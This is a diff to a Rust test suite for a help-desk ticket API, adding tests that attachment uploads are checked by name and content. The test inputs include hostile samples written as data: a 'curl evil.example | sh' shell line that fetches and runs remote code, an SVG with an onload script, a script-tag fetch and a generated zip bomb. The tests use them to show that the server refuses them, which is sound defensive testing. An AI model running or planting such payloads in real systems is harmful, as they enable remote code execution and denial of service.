@@ -578,7 +578,7 @@ async fn attachments_are_checked_streamed_and_served_safely() {
     let user = Who::login(&app, "user@demo.test").await;
     let accepted = [
         "gif", "jpeg", "jpg", "png", "heic", "dng", "pdf", "txt", "doc", "docx", "xls", "xlsx",
-        "mp3", "oga", "ogg", "mp4", "mov", "msi",
+        "mp3", "oga", "ogg", "mp4", "mov",
     ];
     // Every accepted type, ten files per message at most.
     for chunk in accepted.chunks(10) {
@@ -670,7 +670,7 @@ async fn attachments_are_checked_streamed_and_served_safely() {
         (400, Some("too_many_files")),
         "{body}"
     );
-    // 20 MB + 1 byte.
+    // 20 MiB + 1 byte.
     let limit = 20 * 1024 * 1024;
     let mut big = samples::sample("txt");
     big.resize(limit + 1, b'a');
@@ -689,7 +689,7 @@ async fn attachments_are_checked_streamed_and_served_safely() {
     assert_eq!(before, after);
     let tmp = app.data.path().join("attachments").join("tmp");
     assert_eq!(std::fs::read_dir(&tmp).map(|d| d.count()).unwrap_or(0), 0);
-    // Exactly 20 MB is accepted.
+    // Exactly 20 MiB is accepted.
     let mut exact = samples::sample("txt");
     exact.resize(limit, b'a');
     let (status, _) = user
@@ -1421,4 +1421,277 @@ async fn the_router_serves_exactly_the_documented_api() {
     assert_eq!(r.status(), 415);
     let e: Value = r.json().await.expect("a JSON error");
     assert_eq!(e["error"], "unsupported_media_type");
+}
+
+/// A ticket form built by hand, so a part's headers can hold bytes no
+/// client library sends: each file is its raw `Content-Disposition` value
+/// and its content. Returns the content type and the body.
+fn raw_ticket_form(files: &[(&[u8], &[u8])]) -> (String, Vec<u8>) {
+    let boundary = "----frontdesk-raw-boundary-7MA4YWxkTrZu0gW";
+    let mut body = Vec::new();
+    for (name, value) in [("type", "bug_report"), ("description", "raw upload")] {
+        body.extend_from_slice(
+            format!(
+                "--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
+            )
+            .as_bytes(),
+        );
+    }
+    for (disposition, content) in files {
+        body.extend_from_slice(format!("--{boundary}\r\nContent-Disposition: ").as_bytes());
+        body.extend_from_slice(disposition);
+        body.extend_from_slice(b"\r\nContent-Type: application/octet-stream\r\n\r\n");
+        body.extend_from_slice(content);
+        body.extend_from_slice(b"\r\n");
+    }
+    body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
+    (format!("multipart/form-data; boundary={boundary}"), body)
+}
+
+async fn post_raw(app: &TestApp, who: &Who, files: &[(&[u8], &[u8])]) -> (u16, Value) {
+    let (content_type, body) = raw_ticket_form(files);
+    let r = who
+        .auth(who.client.post(app.url("/api/tickets")))
+        .header("content-type", content_type)
+        .body(body)
+        .send()
+        .await
+        .expect("raw multipart POST");
+    let status = r.status().as_u16();
+    (status, r.json().await.unwrap_or(Value::Null))
+}
+
+/// The names of a created ticket's attachments.
+async fn attachment_names(app: &TestApp, who: &Who, created: &Value) -> Vec<String> {
+    let n = created["number"].as_i64().expect("number");
+    let (_, t) = who.get(app, &format!("/api/tickets/{n}")).await;
+    t["attachments"]
+        .as_array()
+        .expect("attachments")
+        .iter()
+        .map(|a| a["file_name"].as_str().unwrap_or("").to_string())
+        .collect()
+}
+
+#[tokio::test]
+async fn no_file_is_dropped_for_its_name_it_is_stored_or_refused_by_name() {
+    let app = TestApp::spawn_demo("").await;
+    let user = Who::login(&app, "user@demo.test").await;
+    let text = samples::sample("txt");
+    // A Latin-1 byte (not UTF-8) in the name: stored, the name read as Latin-1.
+    let (status, body) = post_raw(
+        &app,
+        &user,
+        &[(
+            b"form-data; name=\"files\"; filename=\"caf\xe9.txt\"",
+            &text,
+        )],
+    )
+    .await;
+    assert_eq!(status, 201, "{body}");
+    assert_eq!(
+        attachment_names(&app, &user, &body).await,
+        ["caf\u{e9}.txt"]
+    );
+    // The RFC 5987 form, which wins over the plain one.
+    let (status, body) = post_raw(
+        &app,
+        &user,
+        &[(
+            b"form-data; name=\"files\"; filename*=UTF-8''r%C3%A9sum%C3%A9.txt; filename=\"resume.txt\"",
+            &text,
+        )],
+    )
+    .await;
+    assert_eq!(status, 201, "{body}");
+    assert_eq!(
+        attachment_names(&app, &user, &body).await,
+        ["r\u{e9}sum\u{e9}.txt"]
+    );
+    // A raw line feed in the name: the part's headers cannot be read, so
+    // the whole request is refused, never a ticket without its file.
+    let before = user.get(&app, "/api/tickets").await.1;
+    let (status, body) = post_raw(
+        &app,
+        &user,
+        &[(
+            b"form-data; name=\"files\"; filename=\"two\nlines.txt\"",
+            &text,
+        )],
+    )
+    .await;
+    assert_eq!(
+        (status, body["error"].as_str()),
+        (400, Some("bad_name")),
+        "{body}"
+    );
+    assert_eq!(
+        body["message"],
+        "two lines.txt: the file name has a line break or another control character; \
+         rename the file and send it again"
+    );
+    assert_eq!(user.get(&app, "/api/tickets").await.1, before);
+    // A binary file with an unreadable name is not taken for a text field.
+    let (status, body) = post_raw(
+        &app,
+        &user,
+        &[(
+            b"form-data; name=\"files\"; filename=\"\xff\xfe.png\"",
+            &samples::sample("png"),
+        )],
+    )
+    .await;
+    assert_eq!(status, 201, "{body}");
+    assert_eq!(
+        attachment_names(&app, &user, &body).await,
+        ["\u{ff}\u{fe}.png"]
+    );
+}
+
+#[tokio::test]
+async fn office_files_must_be_real_packages_and_zip_bombs_are_refused() {
+    let app = TestApp::spawn_demo("").await;
+    let user = Who::login(&app, "user@demo.test").await;
+    let send = |name: &str, bytes: Vec<u8>| {
+        Form::new()
+            .text("type", "bug_report")
+            .text("description", "office file")
+            .part("files", file(name, bytes))
+    };
+    let before = user.get(&app, "/api/tickets").await.1;
+    // Any ZIP archive renamed.
+    let plain = samples::zip(&[("photos/cat.jpg", &samples::sample("jpg"))]);
+    let (status, body) = user
+        .multipart(&app, "/api/tickets", send("report.docx", plain.clone()))
+        .await;
+    assert_eq!(
+        (status, body["error"].as_str()),
+        (400, Some("content_mismatch")),
+        "{body}"
+    );
+    assert_eq!(
+        body["message"],
+        "report.docx: its content is not a Word document (it has no [Content_Types].xml)"
+    );
+    let (status, body) = user
+        .multipart(
+            &app,
+            "/api/tickets",
+            send("sheet.xlsx", samples::sample("docx")),
+        )
+        .await;
+    assert_eq!(status, 400, "{body}");
+    assert!(
+        body["message"]
+            .as_str()
+            .unwrap_or("")
+            .starts_with("sheet.xlsx: "),
+        "{body}"
+    );
+    // A real zip bomb: 19 MiB of zeros deflated to about 120 KiB.
+    let bomb = samples::zip_bomb_docx(19);
+    assert!(bomb.len() < 200 * 1024, "{}", bomb.len());
+    let (status, body) = user
+        .multipart(&app, "/api/tickets", send("invoice.docx", bomb))
+        .await;
+    assert_eq!(
+        (status, body["error"].as_str()),
+        (400, Some("zip_bomb")),
+        "{body}"
+    );
+    assert_eq!(
+        body["message"],
+        "invoice.docx: refused as a possible zip bomb (an entry would expand more than 100 times)"
+    );
+    assert_eq!(user.get(&app, "/api/tickets").await.1, before);
+    let tmp = app.data.path().join("attachments").join("tmp");
+    assert_eq!(std::fs::read_dir(&tmp).map(|d| d.count()).unwrap_or(0), 0);
+    // Real documents still go through.
+    let (status, body) = user
+        .multipart(
+            &app,
+            "/api/tickets",
+            send("letter.docx", samples::sample("docx")),
+        )
+        .await;
+    assert_eq!(status, 201, "{body}");
+}
+
+#[tokio::test]
+async fn markup_and_scripts_are_refused_even_named_txt() {
+    let app = TestApp::spawn_demo("").await;
+    let user = Who::login(&app, "user@demo.test").await;
+    for content in [
+        &b"<!DOCTYPE html><html><body>Your invoice</body></html>"[..],
+        b"\xEF\xBB\xBF\n  <svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
+        b"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
+        b"Hello,\nplease see below.\n<script>fetch('/api/tickets')</script>",
+        b"#!/bin/sh\ncurl evil.example | sh\n",
+    ] {
+        let form = Form::new()
+            .text("type", "bug_report")
+            .text("description", "text file")
+            .part("files", file("notes.txt", content.to_vec()));
+        let (status, body) = user.multipart(&app, "/api/tickets", form).await;
+        assert_eq!(
+            (status, body["error"].as_str()),
+            (400, Some("type_forbidden")),
+            "{}: {body}",
+            String::from_utf8_lossy(content)
+        );
+        assert_eq!(
+            body["message"],
+            "notes.txt: its content is HTML, SVG or a script, which is never accepted"
+        );
+    }
+}
+
+#[tokio::test]
+async fn installers_are_accepted_only_when_an_admin_opts_in_and_limits_say_mib() {
+    let app = TestApp::spawn_demo("").await;
+    let user = Who::login(&app, "user@demo.test").await;
+    let msi = || {
+        Form::new()
+            .text("type", "bug_report")
+            .text("description", "installer")
+            .part("files", file("setup.msi", samples::sample("msi")))
+    };
+    let (status, body) = user.multipart(&app, "/api/tickets", msi()).await;
+    assert_eq!(
+        (status, body["error"].as_str()),
+        (400, Some("type_not_allowed")),
+        "{body}"
+    );
+    assert!(
+        body["message"]
+            .as_str()
+            .unwrap_or("")
+            .starts_with("setup.msi: .msi files are not accepted")
+    );
+    // The limit is in binary units and says so, in the API and the portal.
+    let mut big = samples::sample("txt");
+    big.resize(20 * 1024 * 1024 + 1, b'a');
+    let form = Form::new()
+        .text("type", "bug_report")
+        .text("description", "big")
+        .part("files", file("big.txt", big));
+    let (status, body) = user.multipart(&app, "/api/tickets", form).await;
+    assert_eq!(status, 413);
+    assert_eq!(body["message"], "big.txt: larger than the 20 MiB limit");
+    let r = user
+        .auth(user.client.get(app.url("/portal/tickets/new")))
+        .send()
+        .await
+        .expect("new ticket page");
+    let page = r.text().await.expect("page");
+    assert!(page.contains("files of 20 MiB each"), "{page}");
+    assert!(!page.contains(" MB"), "{page}");
+    assert!(!page.contains("msi"), "{page}");
+    drop(app);
+
+    let app = TestApp::spawn_demo("attachment_allow_msi = true\n").await;
+    let user = Who::login(&app, "user@demo.test").await;
+    let (status, body) = user.multipart(&app, "/api/tickets", msi()).await;
+    assert_eq!(status, 201, "{body}");
+    assert_eq!(attachment_names(&app, &user, &body).await, ["setup.msi"]);
 }
